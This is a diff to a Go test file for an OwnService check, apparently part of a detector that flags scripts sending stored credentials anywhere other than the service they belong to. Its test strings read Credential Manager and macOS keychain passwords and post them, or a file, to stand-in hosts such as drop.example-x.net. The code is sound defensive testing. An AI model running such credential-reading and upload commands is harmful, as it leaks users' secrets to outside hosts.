@@ -66,6 +66,25 @@ func TestOwnServiceContext(t *testing.T) {
 			t.Errorf("ownService to %s = %v, want %v", tc.url, got, tc.want)
 		}
 	}
+	// Windows Credential Manager names its item by -Target.
+	ps := `$cred = Get-StoredCredential -Target 'azure-devops'`
+	for url, want := range map[string]bool{"https://dev.azure.com/$Org/_apis/pipelines": true, "https://azure-devops.example-x.net/in": false} {
+		if got := OwnService(ps, []byte(ps+"\nInvoke-RestMethod -Uri \""+url+"\"\n")); got != want {
+			t.Errorf("ownService of a Credential Manager target to %s = %v, want %v", url, got, want)
+		}
+	}
+	// An internet password goes back to the server it was saved for.
+	in := `TOKEN=$(security find-internet-password -s "$JIRA_SITE.atlassian.net" -w)`
+	for url, want := range map[string]bool{
+		"https://$JIRA_SITE.atlassian.net/rest/api/3/search": true,
+		"https://$OTHER.atlassian.net/rest/api/3/search":     false,
+		"http://$JIRA_SITE.atlassian.net/rest":               false,
+		"https://jira.example-x.net/in":                      false,
+	} {
+		if got := OwnService(in, []byte(in+"\ncurl -u \"me:$TOKEN\" \""+url+"\"\n")); got != want {
+			t.Errorf("ownService of an internet password to %s = %v, want %v", url, got, want)
+		}
+	}
 	file := []byte(line + "\ncurl -sS https://api.linear.app/graphql -H \"Authorization: $key\"\ncurl -d @/tmp/k https://drop.example-x.net\n")
 	if OwnService(line, file) {
 		t.Error("own_service with a second host in the file")
